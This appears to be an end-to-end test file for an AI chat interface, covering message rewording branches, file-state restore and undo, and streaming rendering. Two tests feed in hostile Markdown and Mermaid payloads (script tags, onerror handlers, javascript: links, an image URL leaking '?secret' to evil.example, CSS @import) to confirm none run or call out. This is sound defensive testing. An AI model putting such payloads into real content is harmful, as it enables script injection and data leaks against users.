import { expect, test } from "vitest";
import { picture } from "./browser";
import { begin, say, waitForRun } from "./conversation";
import { environment } from "./environment";
import { page } from "./fixture";
import { imported, manyMessages } from "./imported";
import { inSandbox } from "./sandbox";

const timeline = () => page.getByTestId("timeline");
const turn = (text: string) => page.getByTestId("turn-user").filter({ hasText: text });

/** Begins to put a message of the person in other words. */
async function reword(text: string, words: string): Promise<void> {
  await turn(text).hover();
  await turn(text).getByRole("button", { name: "Say it in other words" }).click();
  const box = page.getByTestId("edit-turn").getByRole("textbox");
  await box.fill(words);
  await box.press("Enter");
}

test("FE-20 a message in other words leaves the old branch where ‹ leads to it", async () => {
  await begin(page, "Give me a hello, please: hello");
  await waitForRun(page, "done");
  const old = new URL(page.url()).pathname;
  await reword("Give me a hello", "Another hello, please: hello");
  await page.waitForURL((url) => url.pathname !== old);
  await waitForRun(page, "done");
  const nav = page.getByTestId("wordings");
  await nav.getByText("2/2").waitFor();
  await nav.getByRole("link", { name: "The wording before" }).click();
  await page.waitForURL((url) => url.pathname === old);
  await turn("Give me a hello").getByText("1/2").waitFor();
  await timeline().getByText("Hello from the script.").waitFor();
});

test("FE-21 FE-22 files go back to their state, over newer edits only at a second word, and all of that is undone", async () => {
  const status = () => inSandbox("cd /workspace/pond && git -c safe.directory='*' status --porcelain");
  await begin(page, "Please dig a pond.");
  await waitForRun(page, "done");
  await say(page, "Now stock the pond.");
  await timeline().getByText("It is stocked.").waitFor();
  await waitForRun(page, "done");
  const stocked = status();
  expect(stocked.split("\n")).toHaveLength(3);
  inSandbox("echo 'and mine' >> /workspace/pond/fish.txt");

  await reword("Now stock the pond.", "Better leave the pond.");
  const dialog = page.getByRole("dialog");
  await dialog.getByTestId("branch-conflicts").getByText("pond/fish.txt").waitFor();
  const back = dialog.getByRole("button", { name: "Go back to that state" });
  expect(await back.isDisabled()).toBe(true);
  await picture(page, "branch-dialog");
  await dialog.getByRole("checkbox").check();
  await back.click();
  await timeline().getByText("I leave it.").waitFor();
  expect(status()).toBe("");
  expect(inSandbox("cat /workspace/pond/fish.txt")).toBe("carp");

  // The state before is a checkpoint of its own, which undoes the restoration with what the person had written.
  const list = await page.request.get(`${environment.url}/api/v1/conversations`);
  const [, parent] = ((await list.json()) as { items: { id: string }[] }).items;
  const kept = await page.request.get(`${environment.url}/api/v1/conversations/${parent?.id}/checkpoints`);
  expect(JSON.stringify(await kept.json())).toContain("before_restore");
  await page
    .locator("li", { hasText: /files restored/ })
    .getByRole("button", { name: "Undo" })
    .click();
  await expect.poll(status).toBe(stocked);
  expect(inSandbox("cat /workspace/pond/fish.txt")).toBe("pike\nand mine");
  inSandbox("rm -rf /workspace/pond");
});

test("a message leads to the files as they were before it, after a look at what that does", async () => {
  const files = () => inSandbox("ls /workspace/pond 2> /dev/null | tr '\\n' ' '");
  inSandbox("rm -rf /workspace/pond");
  await begin(page, "Please dig a pond.");
  await waitForRun(page, "done");
  await say(page, "Now stock the pond.");
  await timeline().getByText("It is stocked.").waitFor();
  await waitForRun(page, "done");
  const stocked = files();
  const marks = page.getByTestId("turn-state");
  await expect.poll(() => marks.nth(1).getAttribute("data-recorded")).toBe("true");
  await picture(page, "turn-state");
  await marks.nth(1).click();
  const dialog = page.getByRole("dialog", { name: "Files as they were before this message" });
  const preview = dialog.getByTestId("restore-preview");
  await preview.getByText("pond/fish.txt").waitFor();
  await picture(page, "turn-state-dialog");
  await dialog.getByRole("button", { name: "Cancel" }).click();
  expect(files()).toBe(stocked);
  await marks.nth(1).click();
  await preview.getByText("pond/fish.txt").waitFor();
  await dialog.getByTestId("restore-confirm").click();
  await dialog.waitFor({ state: "detached" });
  expect(files()).not.toBe(stocked);
  await page
    .locator("li", { hasText: /files? restored/ })
    .getByRole("button", { name: "Undo" })
    .click();
  await expect.poll(files).toBe(stocked);
  inSandbox("rm -rf /workspace/pond");
});

test("FE-25 hostile Markdown asks nobody for anything and runs nothing", async () => {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) asked.push(request.url());
  });
  const text = [
    "<img src=x onerror=window.owned=1>",
    "<script>window.owned=1</script>",
    "[a link](javascript:window.owned=1) and ![a secret](https://evil.example/?secret)",
    "![a vector](https://evil.example/a.svg) <iframe src=https://evil.example/frame></iframe>",
    "```html\n<script>window.owned=1</script>\n```",
    "All of it is read.",
  ].join("\n\n");
  const id = await imported(page, "Hostile", [{ user: "Say it." }, { text }]);
  await page.goto(`${environment.url}/c/${id}`);
  await timeline().getByText("All of it is read.").waitFor();
  await timeline().getByText("a link", { exact: true }).click();
  expect(await page.evaluate(() => (window as unknown as { owned?: number }).owned)).toBeUndefined();
  expect(await timeline().locator("img, iframe, script").count()).toBe(0);
  expect(asked).toEqual([]);
  // A picture from elsewhere is a link that says where it leads, and only a click follows it.
  await expect
    .poll(() => timeline().getByRole("link", { name: "a secret" }).getAttribute("rel"))
    .toContain("noopener");
});

test("formulas and diagrams are drawn for who asks for it, and hostile ones ask nobody for anything", async () => {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) asked.push(request.url());
  });
  const fence = (language: string, ...lines: string[]) => [`\`\`\`${language}`, ...lines, "```"].join("\n");
  const text = [
    "The root of $x^2$ is \\(|x|\\), for $5 and $10.",
    "$$\n\\int_0^1 \\sqrt{x}\\,dx = \\frac{2}{3}\n$$",
    fence(
      "mermaid",
      "flowchart LR",
      "  A[Start] -->|goes| B{Choice}",
      '  click A "javascript:window.owned=1"',
    ),
    fence("mermaid", "sequenceDiagram", "  Model->>Tool: <img src=x onerror=window.owned=1>"),
    fence("mermaid", "flowchart LR", '  A@{ img: "https://evil.example/a.png" }'),
    fence(
      "mermaid",
      '%%{init: {"themeCSS": "@import url(https://evil.example)"}}%%',
      "flowchart LR",
      "  A-->B",
    ),
    fence("mermaid", "flowchart LR", "  A-->B", "  style A fill:url(https://evil.example/#a)"),
    "All of it is read.",
  ].join("\n\n");
  const id = await imported(page, "Drawn", [{ user: "Draw it." }, { text }]);
  await page.goto(`${environment.url}/c/${id}`);
  await timeline().getByText("All of it is read.").waitFor();
  expect(await timeline().getByTestId("diagram").count()).toBe(0);
  const first = timeline().locator(".group\\/code").first();
  await first.hover();
  await first.getByRole("button", { name: "Show as picture" }).click();
  const diagrams = timeline().getByTestId("diagram");
  await diagrams.waitFor();
  expect(await diagrams.evaluate((one) => (one as HTMLImageElement).decode().then(() => "drawn"))).toBe(
    "drawn",
  );

  await page.goto(`${environment.url}/settings`);
  await page.getByLabel("Formulas and diagrams").selectOption("drawn");
  await page.goto(`${environment.url}/c/${id}`);
  await timeline().getByText("All of it is read.").waitFor();
  await expect.poll(() => diagrams.count()).toBe(2);
  await expect.poll(() => timeline().getByText("This cannot be drawn.").count()).toBe(3);
  await expect.poll(() => timeline().locator("math").count()).toBe(3);
  await expect.poll(() => timeline().innerText()).toContain("$5 and $10");
  await timeline().evaluate((element) => element.scrollTo(0, 0));
  await picture(page, "drawn");
  expect(await page.evaluate(() => (window as unknown as { owned?: number }).owned)).toBeUndefined();
  expect(asked).toEqual([]);
});

test("FE-26 code that is still being written never shows its fence", async () => {
  await begin(page, "Please write some code.");
  await page.evaluate(() => {
    const look = () => {
      const said = document.querySelector("[data-testid=part-text]")?.textContent ?? "";
      if (said.includes("```")) Object.assign(window, { sawFence: true });
      if (!said.includes("That was the code.")) requestAnimationFrame(look);
    };
    look();
  });
  await timeline().getByText("That was the code.").waitFor();
  await waitForRun(page, "done");
  expect(await page.evaluate(() => "sawFence" in window)).toBe(false);
  await expect.poll(() => timeline().locator("pre").innerText()).toContain("a `tick` in it");
});

test("FE-28 reasoning is one line when it has ended, and stays as the person leaves it", async () => {
  const said = [
    { user: "Think." },
    { reasoning: "First thought of it, at length.", text: "Thought once." },
    { reasoning: "Second thought of it.", text: "Thought twice." },
    ...manyMessages(80),
  ];
  const id = await imported(page, "Thoughts", said);
  const open = async () => {
    await page.goto(`${environment.url}/c/${id}`);
    await timeline().getByText("Answer number 79.").waitFor();
    await page.keyboard.press("Control+f");
    await page.getByTestId("find").getByRole("textbox").fill("Thought once.");
    await timeline().getByText("Thought once.").waitFor();
    await page.keyboard.press("Escape");
  };
  await open();
  const parts = page.getByTestId("part-reasoning");
  await parts.first().waitFor();
  await expect.poll(() => parts.first().innerText()).toMatch(/Thought for .*≈ \d+ tokens/s);
  expect(await timeline().getByText("First thought of it").count()).toBe(0);
  await parts.first().getByRole("button").click();
  await timeline().getByText("First thought of it").waitFor();
  // It goes out of the page and comes back, and the page is opened anew.
  await page.keyboard.press("Alt+End");
  await parts.first().waitFor({ state: "detached" });
  for (const _ of ["scrolled", "reloaded"]) {
    await open();
    await timeline().getByText("First thought of it").waitFor();
    expect(await timeline().getByText("Second thought of it").count()).toBe(0);
  }
});

test("the arrow up in an empty message puts the last one in other words", async () => {
  await begin(page, "Give me a hello, please: hello");
  await waitForRun(page, "done");
  await page.getByTestId("composer").getByRole("textbox").press("ArrowUp");
  const box = page.getByTestId("edit-turn").getByRole("textbox");
  await expect.poll(() => box.inputValue()).toBe("Give me a hello, please: hello");
  await box.press("Escape");
  await page.getByTestId("edit-turn").waitFor({ state: "detached" });
});
